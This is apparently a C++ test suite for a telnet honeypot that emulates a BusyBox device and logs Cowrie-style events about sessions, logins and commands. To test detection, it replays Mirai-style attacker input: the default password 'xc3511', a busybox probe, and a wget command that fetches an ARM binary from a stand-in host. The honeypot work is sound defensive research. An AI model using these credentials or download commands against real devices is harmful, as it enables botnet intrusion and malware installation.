#include <gtest/gtest.h>

#include <sys/wait.h>
#include <unistd.h>

#include "honeypot/telnet_protocol.hpp"
#include "test_support.hpp"

namespace darkscope {
namespace {

using test::Client;
using test::RunningServer;

TEST(HoneypotServer, FirstBytesAreIacThenLoginPrompt) {
  RunningServer server(test::test_config());
  Client c(server.port);
  ASSERT_TRUE(c.connected());
  ASSERT_TRUE(c.read_until("login: "));
  EXPECT_EQ(c.last().substr(0, 12), std::string(telnet_server_greeting()));
  EXPECT_EQ(c.last().substr(12), "\r\n(none) login: ");
}

TEST(HoneypotServer, LoginCommandsAndCowrieEvents) {
  RunningServer server(test::test_config());
  {
    Client c(server.port);
    ASSERT_TRUE(c.read_until("login: "));
    c.send("root\r\n");
    ASSERT_TRUE(c.read_until("Password: "));
    c.send("wrong\r\n");
    ASSERT_TRUE(c.read_until("login: "));
    EXPECT_NE(c.last().find("Login incorrect"), std::string::npos);
    c.send("root\r\n");
    ASSERT_TRUE(c.read_until("Password: "));
    c.send(std::string("xc3511\r\n\0", 9));
    ASSERT_TRUE(c.read_until("# "));
    c.send(std::string("/bin/busybox MIRAI\r\n\0", 21));
    ASSERT_TRUE(c.read_until("# "));
    EXPECT_NE(c.last().find("MIRAI: applet not found\r\n"), std::string::npos);
    c.send("exit\r\n");
    ASSERT_TRUE(c.wait_closed());
    // After the good login nothing said "ncorrect" again.
    const auto good = c.buffer().find("xc3511");
    (void)good;
    const auto after_login = c.buffer().rfind("Password: ");
    EXPECT_EQ(c.buffer().find("ncorrect", after_login), std::string::npos);
  }
  server.stop();
  const auto& ev = server.events.events;
  ASSERT_EQ(ev.size(), 6u);
  EXPECT_EQ(ev[0]["eventid"], "cowrie.session.connect");
  EXPECT_EQ(ev[0]["timestamp"], "2026-11-22T04:00:00.001000Z");
  EXPECT_EQ(ev[0]["session"], "abcdef000000");
  EXPECT_EQ(ev[0]["src_ip"], "127.0.0.1");
  EXPECT_EQ(ev[0]["dst_ip"], "127.0.0.1");
  EXPECT_EQ(ev[0]["dst_port"], server.port);
  EXPECT_EQ(ev[0]["sensor"], "test-sensor");
  EXPECT_EQ(ev[0]["protocol"], "telnet");
  EXPECT_EQ(ev[1]["eventid"], "cowrie.login.failed");
  EXPECT_EQ(ev[1]["username"], "root");
  EXPECT_EQ(ev[1]["password"], "wrong");
  EXPECT_EQ(ev[2]["eventid"], "cowrie.login.success");
  EXPECT_EQ(ev[2]["password"], "xc3511");
  EXPECT_EQ(ev[3]["eventid"], "cowrie.command.input");
  EXPECT_EQ(ev[3]["input"], "/bin/busybox MIRAI");
  EXPECT_EQ(ev[4]["input"], "exit");
  EXPECT_EQ(ev[5]["eventid"], "cowrie.session.closed");
  EXPECT_EQ(ev[5]["reason"], "exit");
  EXPECT_TRUE(ev[5]["duration"].is_number());
  for (const auto& e : ev) EXPECT_EQ(e["src_port"], ev[0]["src_port"]);
}

TEST(HoneypotServer, ThreeFailuresCloseTheConnection) {
  RunningServer server(test::test_config());
  Client c(server.port);
  for (int i = 0; i < 3; ++i) {
    ASSERT_TRUE(c.read_until("login: "));
    c.send("root\r\nnope\r\n");
  }
  EXPECT_TRUE(c.wait_closed());
  server.stop();
  EXPECT_EQ(server.with_id("cowrie.login.failed").size(), 3u);
  EXPECT_EQ(server.with_id("cowrie.session.closed")[0]["reason"], "login attempts exhausted");
}

TEST(HoneypotServer, LimitsCloseSessionsAndServerGoesOn) {
  HoneypotConfig config = test::test_config();
  config.limits.idle_timeout = std::chrono::milliseconds(300);
  config.limits.max_line_length = 100;
  config.limits.max_sessions_per_source = 2;
  RunningServer server(std::move(config));
  {
    Client a(server.port);
    Client b(server.port);
    ASSERT_TRUE(a.read_until("login: "));
    ASSERT_TRUE(b.read_until("login: "));
    Client refused(server.port);
    EXPECT_TRUE(refused.wait_closed());  // third from the same source
    a.send(std::string(200, 'A'));
    EXPECT_TRUE(a.wait_closed());  // line too long
    EXPECT_TRUE(b.wait_closed(std::chrono::seconds(3)));  // idle
  }
  Client again(server.port);
  EXPECT_TRUE(again.read_until("login: "));
  server.stop();
  std::multiset<std::string> reasons;
  for (const auto& e : server.with_id("cowrie.session.closed")) reasons.insert(e["reason"].get<std::string>());
  EXPECT_EQ(reasons.count("limit max_sessions_per_source"), 1u);
  EXPECT_EQ(reasons.count("limit max_line_length"), 1u);
  EXPECT_EQ(reasons.count("idle_timeout"), 1u);
  EXPECT_EQ(reasons.count("shutdown"), 1u);
  EXPECT_EQ(server.server->counters().limit_closed.load(), 3u);
}

TEST(HoneypotServer, InputLimit) {
  HoneypotConfig config = test::test_config();
  config.limits.max_input_bytes = 1000;
  RunningServer server(std::move(config));
  Client c(server.port);
  ASSERT_TRUE(c.read_until("login: "));
  c.send("root\r\nxc3511\r\n");
  ASSERT_TRUE(c.read_until("# "));
  for (int i = 0; i < 100 && c.send("echo 0123456789\r\n"); ++i) {
  }
  EXPECT_TRUE(c.wait_closed());
  server.stop();
  EXPECT_EQ(server.with_id("cowrie.session.closed")[0]["reason"], "limit max_input_bytes");
}

TEST(HoneypotServer, DownloadsDisabledStillRecordTheUrl) {
  RunningServer server(test::test_config());
  Client c(server.port);
  ASSERT_TRUE(c.read_until("login: "));
  c.send("admin\r\nadmin\r\n");
  ASSERT_TRUE(c.read_until("# "));
  c.send("cd /tmp; wget http://198.51.100.1/bins/x.arm\r\n");
  ASSERT_TRUE(c.read_until("# "));
  EXPECT_NE(c.last().find("wget: can't connect to remote host (198.51.100.1): Connection refused"),
            std::string::npos);
  server.stop();
  const auto failed = server.with_id("cowrie.session.file_download.failed");
  ASSERT_EQ(failed.size(), 1u);
  EXPECT_EQ(failed[0]["url"], "http://198.51.100.1/bins/x.arm");
  EXPECT_EQ(failed[0]["message"], "downloads disabled");
}

TEST(HoneypotServer, ParseListenAddress) {
  EXPECT_EQ(parse_listen_address("0.0.0.0:23"), (std::pair<std::string, std::uint16_t>{"0.0.0.0", 23}));
  EXPECT_EQ(parse_listen_address("[::]:2323"), (std::pair<std::string, std::uint16_t>{"::", 2323}));
  EXPECT_EQ(parse_listen_address("2323"), (std::pair<std::string, std::uint16_t>{"0.0.0.0", 2323}));
  EXPECT_THROW((void)parse_listen_address("x:y"), std::runtime_error);
  EXPECT_THROW((void)parse_listen_address("1.2.3.4:70000"), std::runtime_error);
}

TEST(HoneypotServer, DropPrivilegesAfterBinding) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to test dropping privileges";
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    int code = 0;
    try {
      HoneypotServer server(test::test_config(), {});
      const std::uint16_t port = server.listen("127.0.0.1", 0);
      if (port == 0) code = 2;
      if (!drop_privileges("nobody")) code = 3;
      uid_t r = 0, e = 0, s = 0;
      ::getresuid(&r, &e, &s);
      if (r == 0 || e == 0 || s == 0) code = 4;
      if (::setuid(0) == 0) code = 5;
    } catch (...) {
      code = 6;
    }
    ::_exit(code);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(child, &status, 0), child);
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0);
}

}  // namespace
}  // namespace darkscope
